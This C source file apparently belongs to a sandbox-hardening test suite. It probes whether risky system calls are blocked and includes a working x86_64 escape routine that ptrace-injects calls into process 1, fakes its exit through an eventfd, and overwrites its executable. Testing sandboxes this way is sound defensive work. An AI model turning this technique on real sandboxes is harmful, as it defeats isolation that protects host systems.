/* SPDX-License-Identifier: ISC */

#include "base.h"

#include <dirent.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <poll.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

#include "escape-kernel.h"

#define CALL_ARGUMENTS 5
#define ATTEMPT_MS     5000
#define X32_GETPID     (0x40000000 | 39)

/* Since 424 calls have one number in all ABIs. */
#define SAME(nr) nr, nr

struct escape_call {
	const char *name;
	long nr, i386;
	long args[CALL_ARGUMENTS];
};

static const struct escape_call calls[] = {
	{ "ptrace", SYS_ptrace, 26, { 0 } }, /* PTRACE_TRACEME */
	{ "process_vm_readv", SYS_process_vm_readv, 347, { 0 } },
	{ "process_vm_writev", SYS_process_vm_writev, 348, { 0 } },
	{ "pidfd_getfd", SAME(438), { -1 } },
	{ "kcmp", SYS_kcmp, 349, { 0 } },
	{ "io_uring_setup", SAME(425), { 1 } },
	{ "io_uring_enter", SAME(426), { -1 } },
	{ "io_uring_register", SAME(427), { -1 } },
	{ "vsock", SYS_socket, 359, { AF_VSOCK, SOCK_STREAM } },
	{ "socketcall", -1, 102, { 1 } },
	{ "userfaultfd", SYS_userfaultfd, 374, { -1 } },
	{ "bpf", SYS_bpf, 357, { 0, 0, -1 } },
	{ "perf_event_open", SYS_perf_event_open, 336, { 0 } },
	{ "add_key", SYS_add_key, 286, { 0 } },
	{ "request_key", SYS_request_key, 287, { 0 } },
	{ "keyctl", SYS_keyctl, 288, { -1 } },
	{ "mount", SYS_mount, 21, { 0 } },
	{ "umount2", SYS_umount2, 52, { 0 } },
	{ "pivot_root", SYS_pivot_root, 217, { 0 } },
	{ "open_tree", SAME(428), { -1 } },
	{ "move_mount", SAME(429), { -1, 0, -1 } },
	{ "fsopen", SAME(430), { 0 } },
	{ "fsconfig", SAME(431), { -1 } },
	{ "fsmount", SAME(432), { -1 } },
	{ "fspick", SAME(433), { -1 } },
	{ "mount_setattr", SAME(442), { -1 } },
	{ "unshare", SYS_unshare, 310, { CLONE_NEWUSER } },
	{ "setns", SYS_setns, 346, { -1 } },
	{ "clone", SYS_clone, 120, { CLONE_NEWUSER | SIGCHLD } },
	{ "clone3", SAME(435), { 0 } },
};

#ifdef __x86_64__
/* As a 32-bit program does. */
static long
call_i386(long nr, const long *args)
{
	long r = nr;

	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(args[0]), "c"(args[1]), "d"(args[2]),
			 "S"(args[3]), "D"(args[4])
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return (int)r;
}
#endif

static int
judge(long r)
{
	if (r == -ENOSYS || r == -EPERM || r == -EAFNOSUPPORT)
		return (int)r;
	return 0;
}

static long
call_own(long nr, const long *args)
{
	long r = syscall(nr, args[0], args[1], args[2], args[3], args[4]);

	return r == -1 ? -errno : r;
}

int
escape_kernel_call(const char *name, const char *abi)
{
	static const long none[CALL_ARGUMENTS] = { 0 };

	if (text_is(abi, "x32"))
		return judge(call_own(X32_GETPID, none));
	for (size_t i = 0; i < nitems(calls); i++) {
		const struct escape_call *call = &calls[i];
		bool own = abi == NULL;
		long r = -ENOSYS;

		if (strcmp(call->name, name) != 0)
			continue;
		if (own && call->nr != -1)
			r = call_own(call->nr, call->args);
#ifdef __x86_64__
		if (!own)
			r = call_i386(call->i386, call->args);
#endif
		if (r == 0 && call->nr == SYS_clone)
			_exit(0);
		return judge(r);
	}
	return -EINVAL;
}

int
escape_kernel_trace(const char *pid, const char *unused)
{
	(void)unused;
	return ptrace(PTRACE_SEIZE, (pid_t)strtol(pid, NULL, 10), 0, 0) == -1 ?
	    -errno :
	    0;
}

#ifdef __x86_64__

/* A descriptor of process 1 that is an eventfd; negative: none is seen. */
static int
find_eventfd(void)
{
	cleanup_dir DIR *dir = opendir("/proc/1/fd");
	struct dirent *entry;

	while (dir != NULL && (entry = readdir(dir)) != NULL) {
		char text[64] = "";

		if (readlinkat(
			dirfd(dir), entry->d_name, text, sizeof text - 1) > 0 &&
		    strcmp(text, "anon_inode:[eventfd]") == 0)
			return (int)strtol(entry->d_name, NULL, 10);
	}
	return -ENOENT;
}

/* Have process 1, stopped in a system call, do another one. */
static int
make_call(struct user_regs_struct regs, unsigned long long nr,
    unsigned long long a, unsigned long long b)
{
	int status;

	regs.rax = nr;
	regs.orig_rax = (unsigned long long)-1; /* nothing is restarted */
	regs.rdi = a;
	regs.rsi = b;
	regs.rdx = regs.r10 = regs.r8 = 0;
	regs.rip -= 2; /* the instruction that it came by */
	if (ptrace(PTRACE_SETREGS, 1, 0, &regs) == -1 ||
	    ptrace(PTRACE_SINGLESTEP, 1, 0, 0) == -1 ||
	    waitpid(1, &status, __WALL) != 1 || !WIFSTOPPED(status))
		return -EIO;
	return 0;
}

/* Write to the file as soon as nobody executes it any more. */
static _Noreturn void
spin(int file, const char *word)
{
	cleanup_free char *path = xasprintf("/proc/self/fd/%d", file);

	setsid();
	for (int ms = 0; ms < ATTEMPT_MS; ms++) {
		int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);

		if (fd >= 0)
			_exit(dprintf(fd, "%s\n", word) < 0);
		poll(NULL, 0, 1);
	}
	_exit(1);
}

/* As process 1 calls execve(2): words on its stack. */
static int
execute(const struct user_regs_struct *regs)
{
	unsigned long long at = (regs->rsp - 4096) & ~15ULL;
	union {
		char text[16];
		long words[2];
	} program = { "/bin/sleep" }, seconds = { "3" };
	const long block[] = { program.words[0], program.words[1],
		seconds.words[0], (long)at, (long)at + 16, 0 };

	for (size_t i = 0; i < nitems(block); i++)
		if (ptrace(PTRACE_POKEDATA, 1, at + i * 8, block[i]) == -1)
			return -errno;
	return make_call(*regs, SYS_execve, at, at + 24);
}

int
escape_kernel_leave(const char *word, const char *unused)
{
	const uint64_t ended = 1; /* with status 0 */
	int file = open("/proc/1/exe", O_PATH | O_CLOEXEC);
	int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
	int event = find_eventfd(), status, r;
	struct user_regs_struct regs;
	pid_t spinner;

	(void)unused;
	if (file == -1 || pidfd == -1 || event < 0)
		return -EACCES;
	event = (int)syscall(SYS_pidfd_getfd, pidfd, event, 0);
	if (event == -1)
		return -errno;
	if (ptrace(PTRACE_SEIZE, 1, 0, 0) == -1 ||
	    ptrace(PTRACE_INTERRUPT, 1, 0, 0) == -1 ||
	    waitpid(1, &status, __WALL) != 1 ||
	    ptrace(PTRACE_GETREGS, 1, 0, &regs) == -1)
		return -errno;
	/* PR_SET_PDEATHSIG, 0: it outlives the outer bwrap. */
	r = make_call(regs, SYS_prctl, 1, 0);
	if (r == 0)
		r = execute(&regs);
	ptrace(PTRACE_DETACH, 1, 0, 0);
	if (r < 0)
		return r;
	spinner = fork();
	if (spinner == 0)
		spin(file, word);
	if (write(event, &ended, sizeof ended) != sizeof ended)
		return -errno;
	return waitpid(spinner, &status, 0) == spinner && WIFEXITED(status) &&
		WEXITSTATUS(status) == 0 ?
	    0 :
	    -EIO;
}

#else

int
escape_kernel_leave(const char *word, const char *unused)
{
	(void)word;
	(void)unused;
	return -ENOTSUP; /* nobody has written it for this machine */
}

#endif
